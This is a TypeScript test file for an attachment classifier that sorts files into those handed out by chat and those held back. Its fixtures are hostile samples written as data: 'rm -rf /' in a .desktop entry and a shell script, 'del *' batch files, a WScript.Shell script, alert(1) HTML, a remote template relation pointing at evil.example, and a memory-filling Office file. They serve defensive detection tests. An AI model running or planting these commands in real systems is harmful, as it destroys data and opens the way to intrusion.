import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strToU8, zipSync } from "fflate";
import { expect, onTestFinished, test } from "vitest";
import { contentType } from "../../src/attachments/content-type.ts";
import { attachmentFileName, isHeldBack, kindOfContent } from "../../src/domain/attachments.ts";
import { tinyPng } from "../contract/channel.ts";

const bytes = (...parts: (string | number[])[]) =>
  Buffer.concat(
    parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))),
  );
const zeros = (count: number) => new Array<number>(count).fill(0);

const OFFICE = {
  docx: ["word/document.xml", "wordprocessingml.document"],
  xlsx: ["xl/workbook.xml", "spreadsheetml.sheet"],
  pptx: ["ppt/presentation.xml", "presentationml.presentation"],
} as const;
const SHEET = "application/vnd.openxmlformats-officedocument.";

/** An office file with these parts more. */
function office(kind: keyof typeof OFFICE, more: Record<string, string> = {}, as?: string) {
  const [main, type] = OFFICE[kind];
  const content = as ?? `${SHEET}${type}.main+xml`;
  const parts = {
    "[Content_Types].xml": `<Types><Override PartName="/${main}" ContentType="${content}"/></Types>`,
    "_rels/.rels": `<Relationships><Relationship Id="r" Type="http://x/officeDocument" Target="${main}"/></Relationships>`,
    [main]: "<x/>",
    ...more,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}
const relation = (type: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="a" Type="http://x/relationships/${type}" Target="https://evil.example/t.dotm"${mode}/></Relationships>`;

const exe = bytes("MZ", zeros(58), [0x80, 0, 0, 0], zeros(64), "PE", zeros(200));
const cfb = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(600));
const jpeg = await readFile(new URL("../fixtures/corridor.jpg", import.meta.url));

/** What may go to an officer by chat, and how it is called there. */
const handedOut: [what: string, name: string, content: Uint8Array, ending: string][] = [
  ["a photo", "IMG.jpg", jpeg, "jpg"],
  ["a photo that is called a program", "处罚决定书.exe", jpeg, "jpg"],
  ["a picture without a name", "", tinyPng(), "png"],
  ["a PDF", "证据.pdf", bytes("%PDF-1.7\n1 0 obj\n%%EOF"), "pdf"],
  ["a voice of QQ", "v.amr", bytes([2], "#!SILK_V3", zeros(40)), "silk"],
  ["a voice", "v.amr", bytes("#!AMR\n", zeros(40)), "amr"],
  ["a recording", "v.mp3", bytes("ID3", [3, 0, 0, 0, 0, 0, 0], [0xff, 0xfb, 0x90, 0], zeros(400)), "mp3"],
  ["a film", "v", bytes([0, 0, 0, 24], "ftypmp42", zeros(4), "mp42isom", zeros(40)), "mp4"],
  ["a text", "经过.txt", Buffer.from("三楼楼道堆满纸箱，<很多>。\r\n"), "txt"],
  ["a text of Windows", "经过.TXT", Buffer.from([0xb9, 0xe2, 0xc3, 0xf7, 0xc2, 0xb7]), "txt"],
  ["a long text, cut within a sign", "a.log", Buffer.from("警".repeat(30_000)), "txt"],
  ["a document", "说明.docx", office("docx"), "docx"],
  [
    "a table, with the settings of its printer",
    "表.xlsx",
    office("xlsx", { "xl/printerSettings/printerSettings1.bin": "x" }),
    "xlsx",
  ],
  [
    "a document with a link",
    "说明.docx",
    office("docx", { "word/_rels/document.xml.rels": relation("hyperlink") }),
    "docx",
  ],
  ["slides", "a.pptx", office("pptx"), "pptx"],
];

/** What is kept, and handed out on the station's computer alone. */
const heldBack: [what: string, name: string, content: Uint8Array][] = [
  ["a program", "a.exe", exe],
  ["a program that is called a photo", "照片.jpg", exe],
  ["an old document, which may hold macros", "a.doc", cfb],
  ["an old table", "a.xls", cfb],
  ["an installer", "a.msi", cfb],
  [
    "a document with macros",
    "a.docm",
    office("docx", { "word/vbaProject.bin": "x" }, "application/vnd.ms-word.document.macroEnabled.main+xml"),
  ],
  ["macros in a document that does not say so", "a.docx", office("docx", { "word/vbaProject.bin": "x" })],
  ["an embedded file", "a.docx", office("docx", { "word/embeddings/oleObject1.bin": "x" })],
  ["a control", "a.xlsx", office("xlsx", { "xl/activeX/activeX1.xml": "x" })],
  ["old macros of a table", "a.xlsx", office("xlsx", { "xl/macrosheets/sheet1.xml": "x" })],
  [
    "a template from elsewhere",
    "a.docx",
    office("docx", { "word/_rels/settings.xml.rels": relation("attachedTemplate") }),
  ],
  [
    "a frame from elsewhere",
    "a.docx",
    office("docx", { "word/_rels/webSettings.xml.rels": relation("frame") }),
  ],
  ["a table that fetches another", "a.xlsx", office("xlsx", { "xl/externalLinks/externalLink1.xml": "x" })],
  [
    "an office file cut off",
    "a.docx",
    office("docx", { "word/long.xml": "x".repeat(5000) }).subarray(0, -60),
  ],
  ["an archive", "证据.zip", zipSync({ "a.exe": exe })],
  ["an archive of another kind", "a.7z", bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], zeros(60))],
  [
    "a shortcut",
    "证据.pdf",
    bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], zeros(80)),
  ],
  ["a page", "聊天记录.html", bytes("<!doctype html><script>alert(1)</script>")],
  ["a page that is called a text", "聊天记录.txt", bytes("\n  <html><script>alert(1)</script>")],
  ["a drawing with a script", "a.svg", bytes('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
  ["a starter of Linux", "a.desktop", bytes("[Desktop Entry]\nExec=rm -rf /\n")],
  ["a link of Windows", "a.txt", bytes("[InternetShortcut]\nURL=http://x/\n")],
  ["a batch file", "处罚决定书.bat", bytes("@echo off\r\ndel *\r\n")],
  ["a batch file that is called a text", "a.txt", bytes("@echo off\r\ndel *\r\n")],
  ["a script", "a.vbs", bytes('CreateObject("WScript.Shell")')],
  ["a script of a shell", "a.txt", bytes("#!/bin/sh\nrm -rf /\n")],
  ["an add-in of Excel", "a.xll", exe],
  ["a help file", "a.chm", bytes("ITSF", zeros(100))],
  ["a disk", "a.iso", bytes(zeros(32_769), "CD001", zeros(100))],
  ["a rich text", "a.txt", bytes("{\\rtf1 {\\object}}")],
  ["a text with other bytes in it", "a.txt", bytes("abc", [0, 1, 2])],
  ["something nobody knows", "a.xyz", bytes([1, 2, 3, 4, 5])],
];

async function look(name: string, content: Uint8Array) {
  const dir = await mkdtemp(join(tmpdir(), "jingmin-type-"));
  onTestFinished(() => rm(dir, { recursive: true }));
  const path = join(dir, "content");
  await writeFile(path, content);
  const found = await contentType(path, name || undefined);
  return { ...found, heldBack: isHeldBack({ ...found, state: "stored" }) };
}

test.each(handedOut)("%s (%s) may be handed out", async (_, name, content, ending) => {
  const found = await look(name, content);
  expect(found).toMatchObject({ heldBack: false });
  expect(attachmentFileName("R2611-0042", 1, found.mime)).toBe(`R2611-0042-1.${ending}`);
});

test.each(heldBack)("%s (%s) is held back", async (_, name, content) => {
  expect(await look(name, content)).toMatchObject({ heldBack: true });
});

test("an office file made to fill a memory is held back, quickly", async () => {
  const bomb = office("docx", { "word/_rels/document.xml.rels": " ".repeat(60 * 1024 * 1024) });
  const began = performance.now();
  expect(await look("a.docx", bomb)).toMatchObject({ heldBack: true });
  expect(performance.now() - began).toBeLessThan(3000);
});

test("what is no picture is no picture, whatever it came as", () => {
  expect(kindOfContent("image", "image/png")).toBe("image");
  expect(kindOfContent("image", "text/html")).toBe("file");
  expect(kindOfContent("voice", "application/octet-stream")).toBe("voice");
  expect(kindOfContent("file", "image/png")).toBe("file");
});
